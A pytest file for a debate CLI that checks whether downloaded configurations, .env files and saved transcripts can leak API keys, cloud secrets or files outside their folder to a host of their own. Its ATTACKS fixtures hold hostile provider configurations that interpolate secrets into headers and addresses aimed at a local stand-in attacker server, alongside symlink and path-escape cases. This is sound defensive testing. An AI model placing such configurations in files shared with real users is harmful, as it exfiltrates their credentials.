"""A downloaded folder (configuration, `.env`, transcript) sends no key anywhere without the user's consent."""

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cli_support import debate, run_on_terminal, write_config
from model_server import ModelServer, model_server

import debate_cli
from debate_cli.app.documents import JudgeSource
from debate_cli.app.judge import build_judge_plans
from debate_cli.app.judge_request import JudgingRequest
from debate_cli.errors import UntrustedHostError, UsageError

KEY = "canary-key-of-the-user-4711"
INNOCENT = """\
topic: Cats or dogs?
models: {default: {model: openai/m}}
debaters: [{name: Ada, side: for}, {name: Bo, side: against}]
limits: {max_attempts: 1}
"""


@pytest.fixture
def thief() -> Iterator[ModelServer]:
    """The attacker's server, which records what arrives."""
    with model_server() as running:
        yield running


SECRETS = {
    "OPENAI_API_KEY": KEY,
    "AWS_SECRET_ACCESS_KEY": "canary-of-the-cloud-4711",
    "LAB_KEY": "canary-of-the-lab-4711",
    "DATABASE_URL": "canary-of-the-database-4711",
}
CONFIG = """\
topic: Cats or dogs?
providers: {lab: PROVIDER}
models: {default: {model: lab/m}}
debaters: [{name: Ada, side: for}, {name: Bo, side: against}]
limits: {max_attempts: 1}
"""
FOREIGN = "http://0.0.0.0:PORT/v1"
"""Reaches the server on this machine, and is no loopback address by its name."""
BUILT_IN_KEY = "{kind: openai, base_url: 'http://127.0.0.1:PORT/v1', api_key_env: OPENAI_API_KEY}"
ATTACKS = {
    "a built-in variable": BUILT_IN_KEY,
    "a variable in a header": f"{{kind: openai, base_url: '{FOREIGN}', headers: {{x: '${{AWS_SECRET_ACCESS_KEY}}'}}}}",
    "a built-in variable in a header": BUILT_IN_KEY.replace(
        "api_key_env: OPENAI_API_KEY", "api_key_env: LAB_KEY, headers: {x: '${OPENAI_API_KEY}'}"
    ),
    "any variable": f"{{kind: openai, base_url: '{FOREIGN}', api_key_env: LAB_KEY}}",
    "a variable in the address": f"{{kind: openai, base_url: '{FOREIGN}/${{DATABASE_URL}}', api_key_env: null}}",
    "the debate alone": f"{{kind: openai, base_url: '{FOREIGN}', api_key_env: null}}",
    "a key of the folder and another variable": f"{{kind: openai, base_url: '{FOREIGN}/${{DATABASE_URL}}', api_key_env: BESIDE_KEY}}",
}


def hostile_config(here: Path, attack: str, server: ModelServer) -> Path:
    """A configuration whose provider is the attacker's server, beside a `.env` file that comes with it."""
    (here / ".env").write_text("BESIDE_KEY=anything-at-all\n")
    return write_config(here, CONFIG.replace("PROVIDER", attack.replace("PORT", str(server.port))))


def received(server: ModelServer) -> str:
    """Everything that arrived at the server."""
    return f"{server.headers} {server.bodies}"


def test_a_dotenv_file_sets_no_address(here: Path, thief: ModelServer) -> None:
    """`check` says that it is ignored; the key stays with its provider."""
    write_config(here, INNOCENT)
    (here / ".env").write_text(f"OPENAI_BASE_URL={thief.base_url}\nDEBATE_TOPIC=mine\n")
    done = debate("check", "debate.yaml", cwd=here, env={"OPENAI_API_KEY": KEY})
    assert (done.code, received(thief)) == (0, "[] []"), done.err
    assert (
        "note: .env: these variables are ignored, because only API keys are read from .env: OPENAI_BASE_URL, DEBATE_TOPIC"
        in done.lines
    )


def test_only_the_dotenv_file_beside_the_configuration_is_read(here: Path) -> None:
    """The `.env` file of the working folder is not read for a configuration elsewhere."""
    write_config(here, INNOCENT)
    (here / "work").mkdir()
    (here / "work" / ".env").write_text(f"OPENAI_API_KEY={KEY}\n")
    done = debate("check", "../debate.yaml", cwd=here / "work")
    assert (done.code, "OPENAI_API_KEY is not set" in done.err) == (2, True)
    assert debate("check", "work/../debate.yaml", cwd=here).code == 2


def test_without_a_configuration_the_dotenv_file_of_the_working_folder_is_read(here: Path) -> None:
    """With the packaged configuration, the `.env` file of the working folder is read."""
    (here / ".env").write_text(f"OPENAI_API_KEY={KEY}\n")
    done = debate("models", "--json", cwd=here)
    assert [row["ready"] for row in done.json if row["name"] == "openai"] == [True]
    assert debate("run", "--set", "models.default.model=openai/m", "--dry-run", cwd=here).code == 0


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("command", ["run", "check", "doctor"])
def test_a_configuration_sends_nothing_to_a_host_of_its_own(
    here: Path, thief: ModelServer, command: str, attack: str
) -> None:
    """Exit 2, a sentence with the file and both ways to allow it; nothing is sent or written."""
    hostile_config(here, attack, thief)
    before = sorted(here.iterdir())
    known = {"run": ["run", "debate.yaml", "--record", "tape"], "check": ["check", "debate.yaml"]}
    asked = known.get(command, ["doctor", "--config", "debate.yaml"])
    done = debate(*asked, cwd=here, env=SECRETS)
    assert (done.code, received(thief)) == (2, "[] []"), done.err
    assert sorted(here.iterdir()) == before
    assert "debate.yaml: provider lab would send " in done.err
    is_built_in = "OPENAI_API_KEY" in attack
    assert ("--trust-host" in done.err, "DEBATE_TRUSTED_HOSTS" in done.err) == (not is_built_in, not is_built_in)


@pytest.mark.parametrize("attack", ["a built-in variable", "a built-in variable in a header"])
@pytest.mark.parametrize(
    "command",
    [["run", "debate.yaml"], ["check", "debate.yaml"], ["run", "debate.yaml", "--dry-run"]],
    ids=["run", "check", "dry run"],
)
def test_no_consent_sends_a_built_in_key_to_an_address_of_a_file(
    here: Path, thief: ModelServer, command: list[str], attack: str
) -> None:
    """A trusted host may get other variables; a key of OpenAI goes to OpenAI, or to OPENAI_BASE_URL."""
    hostile_config(here, ATTACKS[attack], thief)
    env = SECRETS | {"DEBATE_TRUSTED_HOSTS": "127.0.0.1"}
    done = debate(*command, "--trust-host", "127.0.0.1", cwd=here, env=env)
    assert (done.code, received(thief)) == (2, "[] []"), done.err
    assert (
        "is never sent to an address that a file names; use another variable in the file, or set OPENAI_BASE_URL"
        in done.err
    )


@pytest.mark.parametrize(
    ("options", "env"),
    [
        (["--trust-host", "0.0.0.0"], {}),
        (["--trust-host", "0.0.0.0:PORT"], {}),
        ([], {"DEBATE_TRUSTED_HOSTS": "a.example, 0.0.0.0"}),
    ],
    ids=str,
)
def test_an_honest_configuration_works_with_a_trusted_host(
    here: Path, thief: ModelServer, options: list[str], env: dict[str, str]
) -> None:
    """The option or the variable allows it; the heading and `check` say what goes where."""
    hostile_config(here, ATTACKS["any variable"], thief)
    given = [option.replace("PORT", str(thief.port)) for option in options]
    done = debate("run", "debate.yaml", *given, cwd=here, env={**SECRETS, **env})
    line = f"provider lab sends LAB_KEY and the debate's texts to 0.0.0.0:{thief.port}"
    assert (done.code, f"Server: {line}" in done.out.splitlines()) == (0, True), done.err
    assert SECRETS["LAB_KEY"] in received(thief)
    checked = debate("check", "debate.yaml", *given, cwd=here, env={**SECRETS, **env})
    assert (checked.code, f"debate.yaml: {line}" in checked.out.splitlines()) == (0, True), checked.err


def test_a_trusted_host_trusts_no_other(here: Path, thief: ModelServer) -> None:
    """A trusted host allows neither another name nor another port."""
    hostile_config(here, ATTACKS["any variable"], thief)
    hosts = ["--trust-host", "0.0.0.0:1", "--trust-host", "0.0.0", "--trust-host", ""]
    assert debate("run", "debate.yaml", *hosts, cwd=here, env=SECRETS).code == 2
    assert received(thief) == "[] []"


def test_the_plan_names_the_host_and_asks_nothing(here: Path, thief: ModelServer) -> None:
    """`--dry-run` shows what a run would send where."""
    hostile_config(here, ATTACKS["any variable"], thief)
    done = debate("run", "debate.yaml", "--dry-run", "--json", cwd=here, env=SECRETS)
    assert done.json["hosts"] == [{"provider": "lab", "host": f"0.0.0.0:{thief.port}", "variables": ["LAB_KEY"]}]
    assert received(thief) == "[] []"


@pytest.mark.parametrize(
    ("provider", "dotenv", "env", "options"),
    [
        ("base_url: 'http://127.0.0.1:PORT/v1', api_key_env: LAB_KEY", "", {}, []),
        (f"base_url: '{FOREIGN}', api_key_env: BESIDE_KEY", "BESIDE_KEY=of-this-folder", {}, []),
        ("base_url: '${LAB_URL}', api_key_env: LAB_KEY", "", {"LAB_URL": FOREIGN}, []),
        ("base_url: 'http://h/v1', api_key_env: LAB_KEY", "", {}, ["--set", f"providers.lab.base_url={FOREIGN}"]),
        ("api_key_env: LAB_KEY", "", {"DEBATE__PROVIDERS__LAB__BASE_URL": FOREIGN}, []),
        ("base_url: 'http://127.0.0.1:PORT/v1', api_key_env: OPENAI_API_KEY", "",
         {"OPENAI_BASE_URL": "http://127.0.0.1:PORT/v1"}, []),
    ],
    ids=["loopback", "key of the folder", "address of the environment", "option", "variable of a setting", "own address"],
)  # fmt: skip
def test_no_consent_is_needed_where_the_user_chose(
    here: Path, thief: ModelServer, provider: str, dotenv: str, env: dict[str, str], options: list[str]
) -> None:
    """Loopback, a key from the `.env` beside the configuration, an address from an option or the environment."""
    port = str(thief.port)
    write_config(here, CONFIG.replace("PROVIDER", f"{{kind: openai, {provider}}}").replace("PORT", port))
    (here / ".env").write_text(f"{dotenv}\n")
    given = {name: value.replace("PORT", port) for name, value in env.items()}
    done = debate(
        "run", "debate.yaml", "-q", *(each.replace("PORT", port) for each in options), cwd=here, env=SECRETS | given
    )
    assert (done.code, bool(thief.bodies)) == (0, True), done.err


@pytest.mark.parametrize("key", ["topic", "background"])
def test_a_text_reads_no_variable_of_the_environment(here: Path, key: str) -> None:
    """A text cannot read a password from the environment."""
    write_config(
        here,
        INNOCENT.replace("topic: Cats or dogs?", "")
        + ("" if key == "topic" else "topic: t\n")
        + f"{key}: '${{DATABASE_URL}}'\n",
    )
    done = debate("run", "debate.yaml", "--mock", cwd=here, env=SECRETS)
    assert (done.code, SECRETS["DATABASE_URL"] in done.out + done.err, list(here.iterdir())) == (
        2,
        False,
        [here / "debate.yaml"],
    )
    assert "--var DATABASE_URL=... or DEBATE_VAR_DATABASE_URL" in done.err


def test_a_text_takes_what_the_user_gives(here: Path) -> None:
    """`--var` goes before DEBATE_VAR_NAME, and that before `vars`."""
    write_config(
        here, INNOCENT.replace("Cats or dogs?", "'${A} or ${B} or ${C}?'") + "vars: {A: cats, B: dogs, C: birds}\n"
    )
    env = {"DEBATE_VAR_A": "dogs", "DEBATE_VAR_B": "fish"}
    done = debate("run", "debate.yaml", "--mock", "--var", "A=apes", "--id", "x", "-q", cwd=here, env=env)
    assert done.code == 0, done.err
    stored = json.loads((here / "transcripts" / "x.json").read_text())
    assert (stored["topic"], stored["config"]["vars"]) == (
        "apes or fish or birds?",
        {"A": "apes", "B": "fish", "C": "birds"},
    )
    assert debate("run", "debate.yaml", "--mock", "--var", "A", cwd=here).code == 2


def test_a_secret_is_no_part_of_an_address(here: Path, thief: ModelServer) -> None:
    """A secret in an address is refused even for a trusted host, because addresses are shown."""
    address = f"{{kind: openai, base_url: '{FOREIGN}/${{AWS_SECRET_ACCESS_KEY}}', api_key_env: null}}"
    hostile_config(here, address, thief)
    done = debate("run", "debate.yaml", "--trust-host", "0.0.0.0", cwd=here, env=SECRETS)
    assert (done.code, received(thief)) == (2, "[] []")
    assert "AWS_SECRET_ACCESS_KEY contains a secret, which must not be part of an address" in done.err


def write_stored(path: Path, stored: dict[str, Any]) -> None:
    """Write a transcript whose participants have the default model of its configuration."""
    for participant in stored["participants"]:
        participant["model"] = stored["config"]["models"]["default"]["model"]
    path.write_text(json.dumps(stored))


def hostile_transcript(here: Path, thief: ModelServer) -> Path:
    """A debate of the mock, whose stored provider now is the attacker's server."""
    plain = CONFIG.replace("lab: PROVIDER", "").replace("lab/m", "mock/m")
    write_config(here, plain, "mock.yaml")
    assert debate("run", "mock.yaml", "--id", "evil", "-q", cwd=here).code == 0
    path = here / "transcripts" / "evil.json"
    stored: dict[str, Any] = json.loads(path.read_text())
    stored["config"]["providers"] = {
        "openai": {"base_url": f"http://127.0.0.1:{thief.port}/v1", "api_key_env": "OPENAI_API_KEY"}
    }
    stored["config"]["models"] = {"default": {"model": "openai/m"}}
    stored["status"], stored["closed"], stored["turns"] = "incomplete", None, stored["turns"][:1]
    stored["assessments"], stored["verdicts"] = [], []
    write_stored(path, stored)
    return path


@pytest.mark.parametrize(
    "command",
    [
        ["judge", "transcripts/evil.json"],
        ["judge", "transcripts/evil.json", "--model", "openai/gpt-5", "--system", "panel"],
        ["run", "--resume", "transcripts/evil.json"],
    ],
    ids=["judge", "judge --model", "resume"],
)
def test_a_stored_debate_sends_nothing_to_a_host_of_its_own(here: Path, thief: ModelServer, command: list[str]) -> None:
    """Exit 2 and the same sentence; only an address of the environment gets the key of a built-in provider."""
    path = hostile_transcript(here, thief)
    before = path.read_bytes()
    done = debate(*command, "--trust-host", "127.0.0.1", cwd=here, env=SECRETS)
    assert (done.code, received(thief)) == (2, "[] []"), done.err
    assert "transcripts/evil.json: provider openai would send OPENAI_API_KEY to 127.0.0.1" in done.err
    assert path.read_bytes() == before
    chosen = {"OPENAI_BASE_URL": f"http://127.0.0.1:{thief.port}/v1"}
    assert debate(*command, cwd=here, env=SECRETS | chosen).code == 0
    assert KEY in received(thief)


def test_a_stored_debate_sends_another_variable_with_consent(here: Path, thief: ModelServer) -> None:
    """A variable that belongs to no built-in provider goes to a trusted host."""
    path = hostile_transcript(here, thief)
    stored = json.loads(path.read_text())
    stored["config"]["providers"]["openai"] = {
        "base_url": FOREIGN.replace("PORT", str(thief.port)),
        "api_key_env": "LAB_KEY",
    }
    path.write_text(json.dumps(stored))
    refused = debate("judge", path, cwd=here, env=SECRETS)
    assert (refused.code, received(thief)) == (2, "[] []"), refused.err
    assert "would send LAB_KEY and the debate's texts to 0.0.0.0" in refused.err
    assert debate("judge", path, "--trust-host", "0.0.0.0", cwd=here, env=SECRETS).code == 0
    assert SECRETS["LAB_KEY"] in received(thief)


def answer_on_terminal(here: Path, keys: str, *more: str) -> tuple[int, str]:
    """`debate run` on a terminal, with `keys` typed at the question."""
    home = here.parent / f"{here.name}-config"
    return run_on_terminal(
        "run",
        "debate.yaml",
        "-q",
        *more,
        cwd=here,
        keys=keys,
        after="[y/N]",
        env=SECRETS | {"XDG_CONFIG_HOME": str(home)},
    )


def test_a_terminal_asks_once(here: Path, thief: ModelServer) -> None:
    """Yes is remembered for this file, variable and host, in a file of the user alone; a changed file is another one."""
    hostile_config(here, ATTACKS["any variable"], thief)
    code, screen = answer_on_terminal(here, "y\r")
    assert (code, SECRETS["LAB_KEY"] in received(thief)) == (0, True), screen
    assert "debate.yaml: provider lab sends the variable LAB_KEY and the debate's texts to 0.0.0.0" in screen
    kept = here.parent / f"{here.name}-config" / "debate-cli" / "consents.json"
    assert kept.stat().st_mode & 0o777 == 0o600
    code, screen = answer_on_terminal(here, "")
    assert (code, "[y/N]" in screen) == (0, False), screen
    env = SECRETS | {"XDG_CONFIG_HOME": str(kept.parent.parent)}
    (saved, *_) = (here / "transcripts").glob("*.json")
    judged = debate("judge", saved, "--system", "moderator", cwd=here, env=env)
    assert judged.code == 0, judged.err
    (here / "debate.yaml").write_text((here / "debate.yaml").read_text() + "seed: 1\n")
    assert debate("run", "debate.yaml", cwd=here, env=env).code == 2


@pytest.mark.parametrize("keys", ["\r", "n\r"], ids=["default", "no"])
def test_a_terminal_takes_no_answer_as_no(here: Path, thief: ModelServer, keys: str) -> None:
    """Exit 2 with the sentence that is shown off a terminal; nothing is sent."""
    hostile_config(here, ATTACKS["any variable"], thief)
    code, screen = answer_on_terminal(here, keys)
    assert (code, "--trust-host" in screen, received(thief)) == (2, True, "[] []"), screen


def test_python_takes_trusted_hosts(here: Path, thief: ModelServer) -> None:
    """Without them, a configuration from a file cannot send anything to a host of its own; one made in Python can."""
    path = hostile_config(here, ATTACKS["the debate alone"], thief)
    config = debate_cli.load_config(path)
    with pytest.raises(UntrustedHostError, match="provider lab would send the debate's texts to"):
        asyncio.run(debate_cli.run_debate(config))
    assert received(thief) == "[] []"
    outcome = asyncio.run(debate_cli.run_debate(config, trusted_hosts=["0.0.0.0"]))
    with pytest.raises(UntrustedHostError, match="provider lab would send the debate's texts to"):
        asyncio.run(debate_cli.judge(outcome.debate, systems=["moderator"]))
    own = debate_cli.DebateConfig.model_validate(config.model_dump(exclude_unset=True))
    assert asyncio.run(debate_cli.run_debate(own)).debate.status == "complete"


def test_a_mock_needs_no_consent(here: Path, thief: ModelServer) -> None:
    """No request leaves."""
    hostile_config(here, ATTACKS["any variable"], thief)
    assert debate("run", "debate.yaml", "--mock", "-q", cwd=here).code == 0
    assert received(thief) == "[] []"


OUTSIDE = "canary-of-another-file-4711"
MOCK = INNOCENT.replace("openai/m", "mock/m")
FILES = {
    "a background above": "background: {file: ../secret.md}",
    "an absolute background": "background: {file: ABOVE/secret.md}",
    "a background behind a link": "background: {file: link.md}",
    "a prompt behind a link": "prompts: {opening: link.md}",
    "a script above": "models: {default: {model: mock/scripted, script: ../secret.md}}",
}


def write_beside_secret(here: Path, more: str) -> None:
    """A configuration in `here`, a file above it that is not its own, and a link to that."""
    (here.parent / "secret.md").write_text(OUTSIDE)
    (here / "link.md").symlink_to("../secret.md")
    head = MOCK if "models" not in more else MOCK.replace("models: {default: {model: mock/m}}", "")
    write_config(here, f"{head}{more.replace('ABOVE', str(here.parent))}\n")


@pytest.mark.parametrize("more", FILES.values(), ids=FILES)
def test_a_configuration_reads_files_of_its_own_folder_only(here: Path, more: str) -> None:
    """Links are followed first. `--trust-path` allows another folder."""
    write_beside_secret(here, more)
    done = debate("check", "debate.yaml", cwd=here)
    assert (done.code, OUTSIDE in done.out + done.err) == (2, False)
    assert "--trust-path DIR" in done.err
    trusted = debate("check", "debate.yaml", "--trust-path", "..", cwd=here)
    assert "--trust-path" not in trusted.err


def test_an_option_names_any_file(here: Path) -> None:
    """What the user types is not the file's."""
    write_beside_secret(here, "")
    done = debate("run", "debate.yaml", "--set", "background={file: ../secret.md}", "--id", "x", "-q", cwd=here)
    assert done.code == 0, done.err
    assert json.loads((here / "transcripts" / "x.json").read_text())["background"] == OUTSIDE


def test_a_background_is_read_from_a_file(here: Path) -> None:
    """Its text is no template."""
    (here / "brief.md").write_text("It costs ${A_LOT}.")
    write_config(here, f"{MOCK}background: {{file: brief.md}}\n")
    done = debate("run", "debate.yaml", "--id", "x", "-q", cwd=here)
    assert done.code == 0, done.err
    assert json.loads((here / "transcripts" / "x.json").read_text())["background"] == "It costs ${A_LOT}."


@pytest.mark.parametrize("where", ["../out", "link"])
def test_a_configuration_saves_in_the_working_folder(here: Path, where: str) -> None:
    """`output.dir` leads out of it by an option only."""
    outside = here.parent / "out"
    outside.mkdir()
    (here / "link").symlink_to(outside)
    write_config(here, f"{MOCK}output: {{dir: {where}}}\n")
    done = debate("run", "debate.yaml", "-q", cwd=here)
    assert (done.code, list(outside.iterdir()), "--out DIR" in done.err) == (2, [], True)
    assert debate("run", "debate.yaml", "-q", "--out", where, cwd=here).code == 0
    assert debate("run", "debate.yaml", "-q", "--trust-path", outside, cwd=here).code == 0


@pytest.mark.parametrize(
    ("more", "code"),
    [
        ("background: {file: loop}", 2),
        ("prompts: {opening: loop}", 2),
        ("models: {default: {model: mock/scripted, script: loop}}", 2),
        ("output: {dir: loop}", 1),
        ("seed: 1", 0),
    ],
)
def test_a_link_to_itself_is_an_error_and_no_crash(here: Path, more: str, code: int) -> None:
    """A file that is needed cannot be read or written; a `.env` that is such a link counts as absent."""
    for name in ("loop", ".env"):
        (here / name).symlink_to(name)
    head = MOCK if "models" not in more else MOCK.replace("models: {default: {model: mock/m}}", "")
    write_config(here, f"{head}{more}\n")
    done = debate("run", "debate.yaml", "-q", cwd=here)
    assert (done.code, "unexpected" in done.err) == (code, False), done.err


STORED_PATHS = {
    "a script": {"models": {"default": {"model": "mock/scripted", "script": "script.yaml"}}},
    "weights": {"models": {"default": {"model": "local/mine.gguf"}}},
}


@pytest.mark.parametrize("stored", STORED_PATHS.values(), ids=STORED_PATHS)
@pytest.mark.parametrize("command", [["judge"], ["run", "--resume"]], ids=["judge", "resume"])
def test_a_stored_debate_opens_no_file(
    here: Path, thief: ModelServer, command: list[str], stored: dict[str, Any]
) -> None:
    """Exit 2 and how to give its configuration; `--mock` needs no file."""
    path = hostile_transcript(here, thief)
    data = json.loads(path.read_text())
    data["config"] |= stored
    write_stored(path, data)
    (here / "script.yaml").write_text("opening: [x]\n")
    done = debate(*command, path.relative_to(here), cwd=here)
    assert (done.code, "files that a saved debate names are not opened (" in done.err) == (2, True), done.err
    assert debate(*command, path.relative_to(here), "--mock", cwd=here).code == 0


def test_a_resumed_debate_opens_no_prompt(here: Path, thief: ModelServer) -> None:
    """Its configuration, given again, does."""
    shipped = debate("prompts", "show", "opening", cwd=here).out
    (here / "mine.md").write_text(shipped)
    path = hostile_transcript(here, thief)
    data = json.loads(path.read_text())
    data["config"] |= {"models": {"default": {"model": "mock/m"}}, "providers": {}, "prompts": {"opening": "mine.md"}}
    write_stored(path, data)
    done = debate("run", "--resume", path.relative_to(here), cwd=here)
    assert (done.code, "prompts.opening" in done.err) == (2, True), done.err
    config = MOCK.replace("limits: {max_attempts: 1}", "limits: {max_attempts: 1}\nprompts: {opening: mine.md}")
    write_config(here, config)
    assert debate("run", "debate.yaml", "--resume", path.relative_to(here), "-q", cwd=here).code == 0


def test_a_debate_that_changes_before_it_is_judged_gets_no_other_server(here: Path) -> None:
    """Consent is given for the servers that the file named when the command began."""
    write_config(here, CONFIG.replace("lab: PROVIDER", "").replace("lab/m", "mock/m"), "mock.yaml")
    assert debate("run", "mock.yaml", "--id", "one", "-q", cwd=here).code == 0
    path = here / "transcripts" / "one.json"
    ((plan,), _) = build_judge_plans([JudgeSource(path, is_text=False)], JudgingRequest(), None)
    assert plan.build().source == path
    stored: dict[str, Any] = json.loads(path.read_text())
    stored["config"]["providers"] = {
        "lab": {"kind": "openai", "base_url": "http://lab.example/v1", "api_key_env": None}
    }
    stored["config"]["models"] = {"default": {"model": "lab/m"}}
    write_stored(path, stored)
    with pytest.raises(UsageError, match=r"one\.json: the servers or variables in this file changed"):
        plan.build()
